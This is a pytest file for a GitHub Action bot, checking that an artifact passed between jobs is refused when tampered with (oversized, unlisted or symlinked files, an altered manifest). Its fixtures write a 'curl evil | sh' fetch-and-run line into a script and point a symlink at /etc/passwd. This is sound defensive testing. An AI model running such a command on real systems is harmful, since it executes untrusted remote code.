"""The artifact a read-only job hands to a writing one is read as untrusted input: only known regular
files under their limits, matching a strict manifest."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from bot.errors import ArtifactError
from bot.github.action.artifact import MANIFEST, Manifest, read_artifact, write_artifact

LIMITS = {"candidate.diff": 100, "journal.jsonl": 1000}


def manifest(**overrides: object) -> Manifest:
    fields: dict[str, object] = {"kind": "optimize", "status": "proposed", "repository": "acme/x",
                                 "workflow_run": "7", "base_sha": "a" * 40, "run_id": "20261125-120000-abcd"}
    return Manifest.model_validate({**fields, **overrides})


def written(tmp_path: Path) -> Path:
    folder = tmp_path / "artifact"
    write_artifact(folder, manifest(), {"candidate.diff": b"--- a/x\n", "journal.jsonl": b"{}\n"})
    return folder


def test_what_was_written_reads_back(tmp_path: Path) -> None:
    read, files = read_artifact(written(tmp_path), LIMITS)

    assert read.run_id == "20261125-120000-abcd" and read.files["candidate.diff"].size == 8
    assert files == {"candidate.diff": b"--- a/x\n", "journal.jsonl": b"{}\n"}


def tamper_oversized(folder: Path) -> None:
    (folder / "candidate.diff").write_bytes(b"x" * 101)


def tamper_unknown_file(folder: Path) -> None:
    (folder / "run.sh").write_text("curl evil | sh\n")


def tamper_symlink(folder: Path) -> None:
    (folder / "journal.jsonl").unlink()
    os.symlink("/etc/passwd", folder / "journal.jsonl")


def tamper_subdirectory(folder: Path) -> None:
    (folder / "candidate.diff").unlink()
    (folder / "candidate.diff").mkdir()


def tamper_content(folder: Path) -> None:
    (folder / "candidate.diff").write_bytes(b"--- a/y\n")


def tamper_unlisted(folder: Path) -> None:
    data = json.loads((folder / MANIFEST).read_text())
    del data["files"]["journal.jsonl"]
    (folder / MANIFEST).write_text(json.dumps(data))


def tamper_manifest_field(folder: Path) -> None:
    data = json.loads((folder / MANIFEST).read_text())
    data["base_sha"] = "main"
    (folder / MANIFEST).write_text(json.dumps(data))


def tamper_manifest_extra(folder: Path) -> None:
    data = json.loads((folder / MANIFEST).read_text())
    data["push_to"] = "main"
    (folder / MANIFEST).write_text(json.dumps(data))


def tamper_manifest_not_json(folder: Path) -> None:
    (folder / MANIFEST).write_text("{")


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        (tamper_oversized, "candidate.diff in the artifact is 101 bytes, over its limit of 100"),
        (tamper_unknown_file, "'run.sh', which this job does not take"),
        (tamper_symlink, "'journal.jsonl', which is not a regular file"),
        (tamper_subdirectory, "'candidate.diff', which is not a regular file"),
        (tamper_content, "candidate.diff in the artifact does not match its manifest entry"),
        (tamper_unlisted, "are not the ones its manifest lists"),
        (tamper_manifest_field, "manifest.json of the artifact is not valid (base_sha"),
        (tamper_manifest_extra, "manifest.json of the artifact is not valid (push_to"),
        (tamper_manifest_not_json, "manifest.json of the artifact is not valid"),
    ],
    ids=lambda v: v.__name__.removeprefix("tamper_") if callable(v) else "",
)
def test_a_tampered_artifact_is_refused(tmp_path: Path, tamper: object, message: str) -> None:
    folder = written(tmp_path)
    assert callable(tamper)
    tamper(folder)

    with pytest.raises(ArtifactError, match="refused") as refused:
        read_artifact(folder, LIMITS)

    assert message in str(refused.value)


def test_a_missing_artifact_says_the_job_before_wrote_none(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError, match="the job before this one wrote none"):
        read_artifact(tmp_path / "nothing", LIMITS)


def test_an_artifact_is_written_once(tmp_path: Path) -> None:
    folder = written(tmp_path)

    with pytest.raises(ArtifactError, match="not empty"):
        write_artifact(folder, manifest(), {})
